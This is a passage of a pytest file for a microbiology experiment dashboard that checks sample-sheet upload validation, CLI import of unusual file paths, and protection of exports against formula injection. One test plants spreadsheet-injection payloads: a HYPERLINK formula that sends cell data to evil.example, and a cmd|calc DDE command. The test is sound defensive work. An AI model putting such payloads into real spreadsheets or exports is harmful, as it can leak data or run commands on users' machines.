) -> None:
    url = f"/api/v1/experiments/{experiment_id}/samples.tsv"
    before = sci.get(url).get_data()
    cases: list[tuple[bytes, int]] = [
        (b"Sample Name\n" + b"\n".join(b"big%d" % i for i in range(300_000)), 413),
        (os.urandom(2000), 422),
        (b"Sample Name\nab\x00c\n", 422),
        ("Sample Name\nsch\xf6n\n".encode("latin-1"), 422),
        ("Sample Name\nx\n".encode("utf-16"), 422),
        (b"Sample Name\n" + b"\n".join(b"row%d" % i for i in range(10_000)), 422),
        (b"Sample Name\tSample Name\na\tb\n", 422),
        (b"Sample Name\tFactor Value[Medium]\tFactor Value[Medium]\na\tb\tc\n", 422),
        (b"Sample Name\tUnit\na\tg\n", 422),
        (b"Sample Name\tCharacteristics[Blood Type]\na\tO\n", 422),
        (b"Sample Name\nok-1\nbad\x01name\n", 422),
        (b"", 422),
    ]
    for body, status in cases:
        response = sci.post(url, data=body, content_type="text/tab-separated-values")
        assert response.status_code == status, (body[:40], response.get_data(as_text=True))
        _error(response, status)
    assert sci.get(url).get_data() == before


def test_a_sheet_cell_over_the_csv_field_limit_is_a_422(
    sci: FlaskClient, experiment_id: int
) -> None:
    body = b'Sample Name\n"' + b"x" * 140_000 + b'"\n'
    response = sci.post(
        f"/api/v1/experiments/{experiment_id}/samples.tsv",
        data=body,
        content_type="text/tab-separated-values",
    )
    assert _error(response, 422)["field"] == "sheet"


FORMULA_STARTS = ("=", "+", "@", "\t", "\r")


def test_exports_neutralise_spreadsheet_formulas(
    site: Site, sci: FlaskClient, experiment_id: int
) -> None:
    url = f"/api/v1/experiments/{experiment_id}/samples.tsv"
    sheet = (
        "Sample Name\tCharacteristics[Strain]\tFactor Value[Medium]\n"
        '=HYPERLINK("http://evil.example/?"&A1,"open")\t+cmd|calc!A0\t@SUM(1+1)\n'
    )
    _json(sci.post(url, data=sheet.encode(), content_type="text/tab-separated-values"), 200)
    created = _json(_post(sci, b">formula\nACGT\n", "=SUM(1,2).fa", experiment_id, "formula"), 201)
    cells = [
        c.strip('"')
        for line in sci.get(url).get_data(as_text=True).splitlines()
        for c in line.split("\t")
    ]
    stats = sci.get(f"/api/v1/datasets/{created['id']}/stats.csv").get_data(as_text=True)
    cells += [c.strip('"') for line in stats.splitlines() for c in line.split(",")]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


# --- the import command --------------------------------------------------------------------


@pytest.fixture
def cli_dir(tmp_path: Path) -> tuple[Path, int]:
    from dashboard.db import Database
    from dashboard.services import experiments
    from dashboard.services.actor import cli_actor

    data_dir = tmp_path / "data"
    data_dir.mkdir()
    db = Database(f"sqlite:///{data_dir / 'microspacegen.sqlite3'}")
    db.upgrade()
    experiment = experiments.create_experiment(
        db,
        cli_actor("t"),
        {"name": "cli attacks", "organism": "E. coli", "arms": experiments.default_arms()},
    )
    db.dispose()
    return data_dir, experiment.id


def _cli_import(
    data_dir: Path, experiment: int, path: str, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str]:
    from app import main

    code = main(
        [
            "import",
            path,
            "--experiment",
            str(experiment),
            "--sample",
            "cli",
            "--data-dir",
            str(data_dir),
        ]
    )
    return code, capsys.readouterr().err


def test_cli_import_refuses_what_is_not_a_regular_file(
    cli_dir: tuple[Path, int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data_dir, experiment = cli_dir
    fifo = tmp_path / "fifo.fa"
    os.mkfifo(fifo)
    (tmp_path / "zero.fa").symlink_to("/dev/zero")
    (tmp_path / "dangling.fa").symlink_to(tmp_path / "nowhere")
    (tmp_path / "folder.fa").mkdir()
    for path in (
        fifo,
        tmp_path / "zero.fa",
        Path("/dev/zero"),
        tmp_path / "dangling.fa",
        tmp_path / "folder.fa",
    ):
        started = time.monotonic()
        code, err = _cli_import(data_dir, experiment, str(path), capsys)
        assert code == 1, err
        assert "is not a readable file" in err
        assert "Traceback" not in err
        assert time.monotonic() - started < 10  # never blocks on a FIFO or /dev/zero
    incoming = data_dir / "datasets" / "incoming"
    assert not incoming.exists() or not list(incoming.iterdir())
    real = tmp_path / "real.fa"
    real.write_bytes(b">cli\nACGT\n")
    (tmp_path / "link.fa").symlink_to(real)
    code, err = _cli_import(data_dir, experiment, str(tmp_path / "link.fa"), capsys)
    assert code == 0, err  # a link to a regular file is followed (the operator's own files)


@pytest.mark.skipif(not Path("/proc/self/mem").exists(), reason="needs Linux /proc")
def test_cli_import_read_error_is_one_line(
    cli_dir: tuple[Path, int], capsys: pytest.CaptureFixture[str]
) -> None:
    data_dir, experiment = cli_dir
    code, err = _cli_import(data_dir, experiment, "/proc/self/mem", capsys)  # read() -> EIO
    assert code == 1
    assert err.startswith("error:")
    assert not list((data_dir / "datasets" / "incoming").iterdir())
